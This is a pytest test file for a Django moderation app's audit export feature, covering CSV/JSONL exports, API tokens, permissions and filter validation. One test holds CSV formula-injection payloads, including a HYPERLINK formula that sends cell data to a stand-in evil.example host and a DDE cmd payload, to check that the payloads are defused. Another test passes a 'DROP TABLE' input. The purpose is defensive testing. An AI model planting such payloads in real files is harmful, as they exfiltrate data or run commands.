"""Auditors export the audit log and decisions, from the audit page and from the API with a token."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import Permission, User
from django.db import connection
from django.test import Client

from audit import exports, tokens
from audit import services as audit
from audit.models import ApiToken, AuditEvent
from moderation.models import ContentItem, TriageResult
from policies import services as policy_services
from policies.models import Policy
from tests.audit.exports_helpers import CHAIN_OF_THOUGHT, csv_rows, decided_case, jsonl_rows
from tests.conftest import POLICY_TEXT, ApiClient, ClientFor


def api_get(path: str, token: str | None, **params: Any) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
    return Client().get(f"/api/v1/audit/{path}", params, headers=headers)


def token_of(user: User) -> str:
    return tokens.api_token_create(user=user, name="test")[1]


@pytest.fixture
def other_policy(db: None) -> Policy:
    policy = Policy.objects.create(slug="harassment", name="Harassment")
    policy_services.policy_version_create(policy=policy, text=POLICY_TEXT, activate=True)
    return policy


def test_an_auditor_exports_the_audit_log_as_csv_from_the_audit_page(
    auditor: User, policy: Policy, client_for: ClientFor
) -> None:
    audit.record("test.event", actor=auditor, obj=policy, payload={"text": 'a "quoted",\nmulti-line value'})
    client = client_for(auditor)
    assert client.get("/audit/").status_code == 200
    rows = csv_rows(client.get("/audit/export", {"kind": "events", "format": "csv"}))
    stored = list(AuditEvent.objects.order_by("seq"))
    assert [int(r["seq"]) for r in rows] == [e.seq for e in stored]
    assert [r["hash"] for r in rows] == [e.hash for e in stored]
    event = next(r for r in rows if r["action"] == "test.event")
    assert event["payload"] == '{"text": "a \\"quoted\\",\\nmulti-line value"}'
    assert event["actor_label"] == auditor.username


def test_the_jsonl_export_parses_back_to_the_stored_events(
    auditor: User, policy: Policy, client_for: ClientFor
) -> None:
    audit.record("test.event", actor=None, obj=policy, payload={"path": "C:\\temp", "n": [1, 2]})
    rows = jsonl_rows(client_for(auditor).get("/audit/export", {"kind": "events", "format": "jsonl"}))
    event = next(r for r in rows if r["action"] == "test.event")
    stored = AuditEvent.objects.get(action="test.event")
    assert event["payload"] == {"path": "C:\\temp", "n": [1, 2]}
    assert (event["seq"], event["hash"], event["prev_hash"]) == (stored.seq, stored.hash, stored.prev_hash)


def test_each_export_is_an_audit_event_recorded_before_streaming(
    auditor: User, policy: Policy, client_for: ClientFor
) -> None:
    response = client_for(auditor).get(
        "/audit/export", {"kind": "events", "format": "csv", "policy": "spam", "action": "case.decided"}
    )
    # Recorded before the first byte: it is there even if nobody reads the stream.
    event = AuditEvent.objects.get(action="export.started")
    assert event.actor_label == auditor.username
    assert event.payload["kind"] == "events"
    assert event.payload["format"] == "csv"
    assert event.payload["policy"] == "spam"
    assert event.payload["action"] == "case.decided"
    assert event.payload["via"] == "ui"
    csv_rows(response)
    api_get("decisions", token_of(auditor), format="jsonl")
    assert AuditEvent.objects.filter(action="export.started", payload__via="api").count() == 1
    assert audit.chain_verify().broken is None


def test_the_events_export_matches_each_filter(
    auditor: User, admin: User, policy: Policy, other_policy: Policy, source: ApiClient, client_for: ClientFor
) -> None:
    case, _ = decided_case(policy, source, admin)
    other_case, _ = decided_case(other_policy, source, admin)
    first = audit.record("case.decided", actor=admin, obj=case, payload={})
    second = audit.record("case.decided", actor=auditor, obj=other_case, payload={})
    third = audit.record("case.claimed", actor=admin, obj=case, payload={})
    client = client_for(auditor)

    def seqs(**params: str) -> set[int]:
        rows = csv_rows(client.get("/audit/export", {"kind": "events", "format": "csv", **params}))
        return {int(r["seq"]) for r in rows if r["action"] != "export.started"}

    assert seqs(action="case.decided") == {first.seq, second.seq}
    assert seqs(actor=admin.username) == {first.seq, third.seq} | set(
        AuditEvent.objects.filter(actor_label=admin.username).values_list("seq", flat=True)
    )
    assert seqs(policy="harassment") == set(
        AuditEvent.objects.filter(
            object_type="moderation.policy", object_id=str(other_policy.pk)
        ).values_list("seq", flat=True)
    ) | set(
        AuditEvent.objects.filter(
            object_type="moderation.policyversion",
            object_id__in=[str(v.pk) for v in other_policy.versions.all()],
        ).values_list("seq", flat=True)
    ) | {second.seq}
    assert first.seq not in seqs(policy="harassment")
    assert seqs(
        since=second.created_at.isoformat(), until=(third.created_at + timedelta(microseconds=1)).isoformat()
    ) == {
        second.seq,
        third.seq,
    }
    assert seqs(until=second.created_at.isoformat(), action="case.decided") == {first.seq}


def test_the_decisions_export_has_item_policy_model_and_human_decision(
    auditor: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
) -> None:
    case, decision = decided_case(policy, source, moderator)
    rows = csv_rows(client_for(auditor).get("/audit/export", {"kind": "decisions", "format": "csv"}))
    assert len(rows) == 1
    row = rows[0]
    assert row["decision_id"] == str(decision.pk)
    assert row["source"] == source.source.slug
    assert row["external_id"] == case.item.external_id
    assert row["policy"] == "spam"
    assert row["policy_version"] == "1"
    assert row["model_verdict"] == "violates"
    assert row["model_confidence"] == "high"
    assert row["model_rule_ids"] == "SP1"
    assert row["model_rationale"] == "Repeated unsolicited promotion."
    assert row["action"] == "confirm"
    assert row["final_label"] == "violates"
    assert row["rule_ids"] == "SP1"
    assert row["note"] == "checked the link"
    assert row["moderator"] == moderator.username
    assert "model_chain_of_thought" not in row


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_jsonl_stays_verbatim(
    auditor: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
) -> None:
    formulas = {
        "external_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "model_rationale": "+cmd|' /C calc'!A0",
        "note": "@SUM(1+1)",
        "moderator": "-2+3",
    }
    case, _ = decided_case(policy, source, moderator, note=formulas["note"])
    ContentItem.objects.filter(pk=case.item_id).update(external_id=formulas["external_id"])
    TriageResult.objects.filter(case=case).update(rationale=formulas["model_rationale"])
    User.objects.filter(pk=moderator.pk).update(username=formulas["moderator"])
    client = client_for(auditor)

    row = csv_rows(client.get("/audit/export", {"kind": "decisions", "format": "csv"}))[0]
    for column, value in formulas.items():
        assert row[column] == "'" + value
    assert row["rule_ids"] == "SP1"  # ordinary text is untouched

    record = jsonl_rows(client.get("/audit/export", {"kind": "decisions", "format": "jsonl"}))[0]
    for column, value in formulas.items():
        assert record[column] == value


def test_the_decisions_export_matches_each_filter(
    auditor: User,
    moderator: User,
    senior_moderator: User,
    policy: Policy,
    other_policy: Policy,
    source: ApiClient,
) -> None:
    _, confirmed = decided_case(policy, source, moderator)
    _, overturned = decided_case(
        other_policy,
        source,
        senior_moderator,
        model_verdict="violates",
        action="overturn",
        final_label="safe",
    )
    token = token_of(auditor)

    def ids(**params: str) -> set[int]:
        return {
            row["decision_id"] for row in jsonl_rows(api_get("decisions", token, format="jsonl", **params))
        }

    assert ids() == {confirmed.pk, overturned.pk}
    assert ids(policy="harassment") == {overturned.pk}
    assert ids(actor=moderator.username) == {confirmed.pk}
    assert ids(action="overturn") == {overturned.pk}
    assert ids(since=overturned.created_at.isoformat()) == {overturned.pk}
    assert ids(until=overturned.created_at.isoformat()) == {confirmed.pk}


def test_the_chain_of_thought_is_absent_unless_asked_for(
    admin: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
) -> None:
    decided_case(policy, source, moderator)
    client = client_for(admin)
    plain = csv_rows(client.get("/audit/export", {"kind": "decisions", "format": "csv"}))
    assert "model_chain_of_thought" not in plain[0]
    assert CHAIN_OF_THOUGHT not in str(plain)
    asked = csv_rows(
        client.get("/audit/export", {"kind": "decisions", "format": "csv", "include_reasoning": "on"})
    )
    assert asked[0]["model_chain_of_thought"] == CHAIN_OF_THOUGHT
    as_json = jsonl_rows(api_get("decisions", token_of(admin), format="jsonl", include_reasoning="true"))
    assert as_json[0]["model_chain_of_thought"] == CHAIN_OF_THOUGHT
    assert (
        "model_chain_of_thought" not in jsonl_rows(api_get("decisions", token_of(admin), format="jsonl"))[0]
    )


def test_the_chain_of_thought_is_refused_to_an_auditor_without_the_permission(
    auditor: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
) -> None:
    decided_case(policy, source, moderator)
    token = token_of(auditor)
    refused = api_get("decisions", token, format="csv", include_reasoning="true")
    assert refused.status_code == 403
    assert "export_reasoning" in refused.json()["detail"]
    ui = client_for(auditor).get(
        "/audit/export", {"kind": "decisions", "format": "csv", "include_reasoning": "on"}
    )
    assert ui.status_code == 403
    assert not AuditEvent.objects.filter(action="export.started").exists()

    auditor.user_permissions.add(Permission.objects.get(codename="export_reasoning"))
    auditor = User.objects.get(pk=auditor.pk)  # permissions are cached per user object
    allowed = jsonl_rows(api_get("decisions", token, format="jsonl", include_reasoning="true"))
    assert allowed[0]["model_chain_of_thought"] == CHAIN_OF_THOUGHT


def test_a_moderator_cannot_export_or_open_the_audit_page(moderator: User, client_for: ClientFor) -> None:
    client = client_for(moderator)
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export", {"kind": "events", "format": "csv"}).status_code == 403
    assert client.post("/audit/tokens", {"name": "mine"}).status_code == 403
    assert not ApiToken.objects.exists()


def test_anonymous_visitors_are_sent_to_log_in(db: None) -> None:
    response = Client().get("/audit/export", {"kind": "events", "format": "csv"})
    assert response.status_code == 302
    assert response["Location"].startswith("/login/")


def test_the_api_refuses_no_token_a_bad_token_and_a_revoked_one(auditor: User) -> None:
    assert api_get("events", None).status_code == 401
    assert api_get("events", "sgu_nothing_here").status_code == 401
    assert api_get("events", "not-even-a-token").status_code == 401
    token = token_of(auditor)
    assert api_get("events", token[:-2] + "xx").status_code == 401
    assert api_get("events", token).status_code == 200
    revoked = ApiToken.objects.get(user=auditor)
    assert tokens.api_token_revoke(user=auditor, token_id=revoked.pk)
    assert api_get("events", token).status_code == 401


def test_the_api_refuses_a_moderators_token_and_a_source_key(moderator: User, source: ApiClient) -> None:
    # A moderator could hold a token from before a role change; the role is checked on every request.
    _, secret = tokens.api_token_create(user=moderator, name="old")
    assert api_get("events", secret).status_code == 403
    assert api_get("events", source.api_key).status_code == 401
    assert not AuditEvent.objects.filter(action="export.started").exists()


def test_an_auditor_makes_a_token_that_is_shown_once_and_stored_hashed(
    auditor: User, client_for: ClientFor
) -> None:
    client = client_for(auditor)
    response = client.post("/audit/tokens", {"name": "DSA report"})
    assert response.status_code == 200
    secret = response.context["new_token"]
    assert secret.startswith("sgu_") and secret in response.content.decode()
    stored = ApiToken.objects.get(user=auditor)
    assert stored.name == "DSA report" and secret not in (stored.key_hash, stored.key_id)
    assert secret not in client.get("/audit/").content.decode()
    assert api_get("events", secret).status_code == 200
    client.post(f"/audit/tokens/{stored.pk}/revoke")
    assert api_get("events", secret).status_code == 401
    assert AuditEvent.objects.filter(action__in=["api_token.created", "api_token.revoked"]).count() == 2


def test_someone_elses_token_cannot_be_revoked(auditor: User, admin: User, client_for: ClientFor) -> None:
    token, secret = tokens.api_token_create(user=admin, name="admin's")
    client_for(auditor).post(f"/audit/tokens/{token.pk}/revoke")
    assert api_get("events", secret).status_code == 200


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"since": "yesterday"}, "since"),
        ({"policy": "no-such-policy"}, "policy"),
        ({"since": "2026-01-02T00:00:00Z", "until": "2026-01-01T00:00:00Z"}, "until"),
        ({"action": "DROP TABLE"}, "action"),
        ({"format": "xml"}, "format"),
        ({"until": "0001-01-01T00:00:00+05:00"}, "until"),  # before year 1 in UTC
        ({"since": "0.5362095142193775"}, "since"),  # not seconds since 1970: ISO 8601 only
    ],
)
def test_bad_filters_get_a_400_with_field_errors(
    auditor: User, policy: Policy, params: dict[str, str], field: str, client_for: ClientFor
) -> None:
    api = api_get("events", token_of(auditor), **params)
    assert api.status_code == 400
    assert field in {e["loc"][-1] for e in api.json()["errors"]}
    ui = client_for(auditor).get("/audit/export", {"kind": "events", "format": "csv", **params})
    assert ui.status_code == 400
    assert field in ui.context["form"].errors
    assert not AuditEvent.objects.filter(action="export.started").exists()


def test_the_api_refuses_a_misspelt_filter_instead_of_exporting_everything(auditor: User) -> None:
    api = api_get("events", token_of(auditor), polcy="spam")
    assert api.status_code == 400
    assert {"loc": ["query", "polcy"], "msg": "unknown parameter"}.items() <= api.json()["errors"][0].items()
    assert not AuditEvent.objects.filter(action="export.started").exists()


def test_an_offset_postgresql_cannot_store_is_read_in_utc(auditor: User) -> None:
    assert api_get("events", token_of(auditor), until="0093-01-29T02:13:18-19:37").status_code == 200


def test_statements_are_refused_as_csv(auditor: User, client_for: ClientFor) -> None:
    ui = client_for(auditor).get("/audit/export", {"kind": "statements", "format": "csv"})
    assert ui.status_code == 400
    assert "format" in ui.context["form"].errors
    api = api_get("statements", token_of(auditor), format="csv")
    assert api.status_code == 400
    assert api.json() == {
        "detail": "invalid request",
        "errors": [
            {
                "loc": ["query", "format"],
                "msg": "statements of reasons are JSON records: use format=jsonl (CSV is not offered)",
            }
        ],
    }


def test_statements_accept_format_jsonl_as_readme_documents(auditor: User) -> None:
    response = api_get("statements", token_of(auditor), format="jsonl")
    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES["jsonl"]
    assert response["Content-Disposition"].endswith('.jsonl"')


# Autocommit, as in production: a COPY cancelled inside a transaction would abort it.
@pytest.mark.django_db(transaction=True)
def test_closing_an_export_early_cancels_the_copy_and_frees_the_connection(
    auditor: User, policy: Policy
) -> None:
    audit.record_many("test.bulk", actor=None, objects=[(policy, {"filler": "x" * 200}) for _ in range(3000)])
    stream = exports.export_start(
        user=auditor, request=exports.ExportRequest(kind="events", format="csv"), via="ui"
    )
    first = next(stream)
    assert first.startswith(b"seq,id,created_at")
    stream.close()  # what the WSGI server does when the client goes away
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM reviews_auditevent")
        assert cursor.fetchone()[0] > 3000
        cursor.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE pid <> pg_backend_pid() "
            "AND query LIKE 'COPY (SELECT%%' AND state = 'active'"
        )
        assert cursor.fetchone()[0] == 0


def test_the_export_api_is_documented(db: None) -> None:
    schema = Client().get("/api/v1/openapi.json").json()
    events = schema["paths"]["/api/v1/audit/events"]["get"]
    params = {p["name"] for p in events["parameters"]}
    assert {"since", "until", "policy", "actor", "action", "format"} <= params
    assert {"200", "400", "401", "403"} <= set(events["responses"])
    assert "text/csv" in events["responses"]["200"]["content"]
    decisions = schema["paths"]["/api/v1/audit/decisions"]["get"]
    assert "include_reasoning" in {p["name"] for p in decisions["parameters"]}
    assert "/api/v1/audit/statements" in schema["paths"]
